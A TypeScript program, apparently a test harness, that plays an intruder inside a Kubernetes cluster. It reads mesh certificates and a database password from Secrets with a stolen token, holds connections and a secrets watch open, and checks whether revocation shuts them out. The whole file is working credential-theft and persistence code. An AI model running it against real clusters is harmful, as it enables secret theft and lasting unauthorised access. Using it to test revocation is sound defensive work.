/**
 * The intruder's program, run by Node in a pod of his own inside the cluster's network. He has a token; with it he reads
 * the mesh's certificate and the database password, uses all three and keeps a connection open on each. What he has stays
 * in this process. Asked over HTTP:
 *   GET /strike?mesh=name@address,...   reads, uses, keeps; the program's first and only theft
 *   GET /try?mesh=name@address,...      tries all of it again, on fresh connections and on the kept ones
 */
import { createRequire } from "node:module";
import { createServer } from "node:http";
import { once } from "node:events";
import { connect, type ConnectionOptions, type TLSSocket } from "node:tls";

interface Attempt {
  readonly credential: "certificate" | "forged certificate" | "password" | "token";
  readonly target: string;
  readonly connection: "fresh" | "kept" | "watch";
  /** `silent`: nobody there, or nothing said; that is no refusal. */
  readonly outcome: "accepted" | "refused" | "silent";
  readonly detail: string;
}
type Outcome = Pick<Attempt, "outcome" | "detail">;

interface Identity {
  readonly certificate: string;
  readonly key: string;
}

interface Loot extends Identity {
  readonly password: string;
}

/** A connection that is never opened anew: what is asked on it was let in before. */
interface Kept {
  ask(): Promise<Outcome>;
}

const { env } = process;
const setting = (name: string): string => {
  const value = env[name];
  if (value === undefined || value === "") throw new Error(`${name} is not set`);
  return value;
};
const [token, namespace] = [setting("TOKEN"), setting("TARGET_NAMESPACE")];
const secrets = { certificates: setting("CERTIFICATES"), password: setting("PASSWORD") };
const database = {
  host: setting("DATABASE_HOST"),
  port: Number(env["DATABASE_PORT"] ?? 5432),
  user: setting("DATABASE_USER"),
  database: setting("DATABASE_NAME"),
};
const api = { host: setting("KUBERNETES_SERVICE_HOST"), port: Number(setting("KUBERNETES_SERVICE_PORT")) };
/** A certificate that he has made himself, where he has the authority's key. */
const forged: Identity | null =
  env["FORGED_CERTIFICATE"] === undefined
    ? null
    : { certificate: env["FORGED_CERTIFICATE"], key: setting("FORGED_KEY") };
/** Of members whose address names no other. */
const meshPort = setting("MESH_PORT");
/** The image's own driver: this file lies beside no modules. */
const { Client }: typeof import("pg") = createRequire(env["MODULES"] ?? "/app/package.json")("pg");

const answerMs = 4_000;
/** Servers close what is idle for longer. */
const beatMs = 5_000;

let loot: Loot | null = null;
const kept = new Map<string, Pick<Attempt, "credential" | "target" | "connection"> & Kept>();

// --- what every connection is asked -------------------------------------------------------------------------------

const meshRequest = "GET /identity HTTP/1.1\r\nHost: mesh\r\n\r\n";
const secretPath = (name: string) => `/api/v1/namespaces/${namespace}/secrets/${name}`;
const apiRequest = (path: string, more = "") =>
  `GET ${path} HTTP/1.1\r\nHost: kubernetes\r\nAuthorization: Bearer ${token}\r\nAccept: application/json\r\n${more}\r\n`;

/** Of the first line of an answer: 401 and 403 of the mesh are refusals; of the API only 401 is, for 403 knows who asks. */
function judged(line: string, refusals: readonly string[]): Outcome {
  const [, status = ""] = line.split(" ");
  return { outcome: refusals.includes(status) ? "refused" : "accepted", detail: line };
}

async function dial(options: ConnectionOptions): Promise<TLSSocket | Outcome> {
  const socket = connect({ ...options, rejectUnauthorized: false });
  let reached = false;
  let reason = "closed";
  socket.once("connect", () => (reached = true));
  socket.on("error", (error) => (reason = error.message));
  const closed = () => "closed" as const;
  const ended = once(socket, "close").then(closed, closed);
  const opened = once(socket, "secureConnect").then(() => "open" as const, closed);
  const result = await Promise.race([opened, ended, pause(answerMs).then(() => "late" as const)]);
  if (result === "open") return socket;
  socket.destroy();
  return { outcome: reached && result === "closed" ? "refused" : "silent", detail: reason };
}

/** Sends and waits for the first line of the answer. A connection that is closed instead is a refusal. */
async function exchange(socket: TLSSocket, request: string, refusals: readonly string[]): Promise<Outcome> {
  if (socket.destroyed) return { outcome: "refused", detail: "it was closed" };
  return await new Promise((resolve) => {
    const end = (outcome: Outcome) => {
      socket.off("data", onData).off("close", onClose);
      resolve(outcome);
    };
    // The rest of an earlier answer may still be coming.
    const onData = (bytes: Buffer) => {
      const [line = ""] = String(bytes).split("\r\n");
      if (line.startsWith("HTTP/1.1 ")) end(judged(line, refusals));
    };
    const onClose = () => end({ outcome: "refused", detail: "closed without an answer" });
    socket.on("data", onData).once("close", onClose);
    socket.write(request);
    void pause(answerMs).then(() => end({ outcome: "silent", detail: `nothing within ${answerMs} ms` }));
  });
}

/** Asks one after another, and every few seconds by itself, so that it is not closed for being idle. */
function keep(socket: TLSSocket, request: string, refusals: readonly string[]): Kept {
  let last: Promise<Outcome> = Promise.resolve({ outcome: "accepted", detail: "just opened" });
  const ask = () => (last = last.then(() => exchange(socket, request, refusals)));
  const beat = setInterval(() => void ask(), beatMs);
  socket.once("close", () => clearInterval(beat));
  return { ask };
}

// --- the three credentials ----------------------------------------------------------------------------------------

const meshRefusals = ["401", "403"];
const apiRefusals = ["401"];

async function freshMesh(address: string, { certificate, key }: Identity): Promise<TLSSocket | Outcome> {
  const [host = "", port = meshPort] = address.split(":");
  return dial({ host, port: Number(port), cert: certificate, key, minVersion: "TLSv1.3" });
}

async function tryMesh(address: string, shown: Identity): Promise<Outcome> {
  const socket = await freshMesh(address, shown);
  if ("outcome" in socket) return socket;
  const outcome = await exchange(socket, meshRequest, meshRefusals);
  socket.destroy();
  return outcome;
}

async function connectDatabase(password: string) {
  const client = new Client({ ...database, password, connectionTimeoutMillis: answerMs });
  client.on("error", () => {});
  await client.connect();
  return client;
}

/** Only the server's own word that it does not let us in is a refusal. */
async function tryDatabase(password: string): Promise<Outcome> {
  try {
    const client = await connectDatabase(password);
    const { rows } = await client.query("SELECT count(*) AS records FROM records");
    await client.end();
    return { outcome: "accepted", detail: `${JSON.stringify(rows[0])} read` };
  } catch (error) {
    const code = error instanceof Error && "code" in error ? String(error.code) : "";
    const outcome = code.startsWith("28") ? "refused" : "silent";
    return { outcome, detail: `${code} ${messageOf(error)}` };
  }
}

function keepDatabase(client: Awaited<ReturnType<typeof connectDatabase>>): Kept {
  let ended: string | null = null;
  client.on("error", (error) => (ended = messageOf(error)));
  client.on("end", () => (ended ??= "ended"));
  return {
    async ask() {
      if (ended !== null) return { outcome: "refused", detail: `ended: ${ended}` };
      const query = client.query("SELECT 1").then(
        (): Outcome => ({ outcome: "accepted", detail: "SELECT 1" }),
        (error: unknown): Outcome => ({ outcome: "refused", detail: messageOf(error) }),
      );
      const late = pause(answerMs).then((): Outcome => ({
        outcome: "silent",
        detail: `nothing within ${answerMs} ms`,
      }));
      return await Promise.race([query, late]);
    },
  };
}

async function tryToken(): Promise<Outcome> {
  const socket = await dial(api);
  if ("outcome" in socket) return socket;
  const outcome = await exchange(socket, apiRequest(secretPath(secrets.password)), apiRefusals);
  socket.destroy();
  return outcome;
}

/** A watch is asked for its credential once: it shows every change for as long as it is open. */
async function openWatch(): Promise<Kept | Outcome> {
  const socket = await dial(api);
  if ("outcome" in socket) return socket;
  const path = `/api/v1/namespaces/${namespace}/secrets?watch=1&timeoutSeconds=7200`;
  const opened = await exchange(socket, apiRequest(path, "Connection: close\r\n"), apiRefusals);
  if (!opened.detail.startsWith("HTTP/1.1 200")) {
    socket.destroy();
    return opened;
  }
  let chunks = 1;
  socket.on("data", () => (chunks += 1));
  return {
    ask: async () =>
      socket.destroyed
        ? { outcome: "refused", detail: `it was ended after ${chunks} pieces` }
        : { outcome: "accepted", detail: `still open, ${chunks} pieces received` },
  };
}

/** Rights that were given a moment ago take a moment to count. */
async function openWatchPatiently(): Promise<Kept | Outcome> {
  for (let left = 20; ; left -= 1) {
    const watch = await openWatch();
    if (!("outcome" in watch) || left === 0) return watch;
    await pause(250);
  }
}

// --- strike and try -----------------------------------------------------------------------------------------------

async function readSecret(name: string): Promise<Readonly<Record<string, string>>> {
  const socket = await dial(api);
  if ("outcome" in socket) throw new Error(`the API is ${socket.outcome}: ${socket.detail}`);
  const chunks: Buffer[] = [];
  socket.on("data", (bytes: Buffer) => chunks.push(bytes));
  socket.write(apiRequest(secretPath(name), "Connection: close\r\n"));
  await once(socket, "close");
  const answer = Buffer.concat(chunks).toString();
  if (!answer.startsWith("HTTP/1.1 200")) throw new Error(`${name}: ${answer.split("\r\n")[0]}`);
  const { data = {} } = JSON.parse(bodyOf(answer)) as { data?: Readonly<Record<string, string>> };
  return Object.fromEntries(
    Object.entries(data).map(([key, text]) => [key, Buffer.from(text, "base64").toString()]),
  );
}

/** The body of an answer, whole or in chunks. ASCII: Secrets are base64. */
function bodyOf(answer: string): string {
  const [head = "", ...rest] = answer.split("\r\n\r\n");
  const body = rest.join("\r\n\r\n");
  if (!/^transfer-encoding: chunked/im.test(head)) return body;
  let [text, at] = ["", 0];
  for (;;) {
    const end = body.indexOf("\r\n", at);
    const size = Number.parseInt(body.slice(at, end), 16);
    if (end < 0 || Number.isNaN(size) || size === 0) return text;
    text += body.slice(end + 2, end + 2 + size);
    at = end + 2 + size + 2;
  }
}

type Target = readonly [name: string, address: string];

/** Every member, with every certificate that he has. */
function doorsOf(mesh: readonly Target[], stolen: Identity) {
  const identities = [
    { credential: "certificate" as const, shown: stolen },
    ...(forged === null ? [] : [{ credential: "forged certificate" as const, shown: forged }]),
  ];
  return mesh.flatMap(([target, address]) =>
    identities.map((identity) => ({ ...identity, target, address })),
  );
}

async function strike(mesh: readonly Target[]): Promise<readonly Attempt[]> {
  const opened = await tryToken();
  const attempts: Attempt[] = [{ credential: "token", target: "the API", connection: "fresh", ...opened }];
  if (opened.outcome !== "accepted") return attempts;
  const certs = await readSecret(secrets.certificates);
  const { password = "" } = await readSecret(secrets.password);
  const stolen = { certificate: certs["tls.crt"] ?? "", key: certs["tls.key"] ?? "", password };
  loot = stolen;
  await Promise.all(
    doorsOf(mesh, stolen).map(async ({ credential, target, address, shown }) => {
      const socket = await freshMesh(address, shown);
      if ("outcome" in socket) return;
      const link = { credential, target, connection: "kept" } as const;
      kept.set(`${credential} ${target}`, { ...link, ...keep(socket, meshRequest, meshRefusals) });
    }),
  );
  const client = await connectDatabase(password).catch(() => null);
  if (client !== null) {
    const link = { credential: "password", target: "the database", connection: "kept" } as const;
    kept.set("password", { ...link, ...keepDatabase(client) });
  }
  const socket = await dial(api);
  if (!("outcome" in socket)) {
    const link = { credential: "token", target: "the API", connection: "kept" } as const;
    kept.set("token", {
      ...link,
      ...keep(socket, apiRequest(secretPath(secrets.password)), apiRefusals),
    });
  }
  const watch = await openWatchPatiently();
  if (!("outcome" in watch)) {
    kept.set("watch", { credential: "token", target: "the API", connection: "watch", ...watch });
  }
  return tryAll(mesh);
}

/** Everything once more. What was never kept is silent: a connection that was not there cannot be refused. */
async function tryAll(mesh: readonly Target[]): Promise<readonly Attempt[]> {
  const stolen = loot;
  if (stolen === null) {
    return [{ credential: "token", target: "the API", connection: "fresh", ...(await tryToken()) }];
  }
  const fresh = [
    ...doorsOf(mesh, stolen).map(async ({ credential, target, address, shown }): Promise<Attempt> => ({
      credential,
      target,
      connection: "fresh",
      ...(await tryMesh(address, shown)),
    })),
    tryDatabase(stolen.password).then((outcome): Attempt => ({
      credential: "password",
      target: "the database",
      connection: "fresh",
      ...outcome,
    })),
    tryToken().then((outcome): Attempt => ({
      credential: "token",
      target: "the API",
      connection: "fresh",
      ...outcome,
    })),
  ];
  const again = [...kept.values()].map(async ({ credential, target, connection, ask }): Promise<Attempt> => ({
    credential,
    target,
    connection,
    ...(await ask()),
  }));
  return await Promise.all([...fresh, ...again]);
}

function targetsOf(query: URLSearchParams): readonly Target[] {
  const pairs = (query.get("mesh") ?? "").split(",").filter((pair) => pair !== "");
  return pairs.map((pair): Target => {
    const [name = "", address = ""] = pair.split("@");
    return [name, address];
  });
}

function messageOf(error: unknown): string {
  return error instanceof Error ? error.message : String(error);
}

async function pause(ms: number): Promise<void> {
  await new Promise((resolve) => {
    setTimeout(resolve, ms).unref();
  });
}

createServer((request, response) => {
  const url = new URL(request.url ?? "/", "http://intruder");
  const answers: Readonly<Record<string, () => Promise<readonly Attempt[]>>> = {
    "/strike": () => strike(targetsOf(url.searchParams)),
    "/try": () => tryAll(targetsOf(url.searchParams)),
    "/": async () => [],
  };
  const answer = answers[url.pathname];
  if (answer === undefined) {
    response.writeHead(404).end();
    return;
  }
  answer().then(
    (attempts) =>
      response.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify(attempts)),
    (error: unknown) => response.writeHead(500).end(messageOf(error)),
  );
}).listen(Number(setting("PORT")));
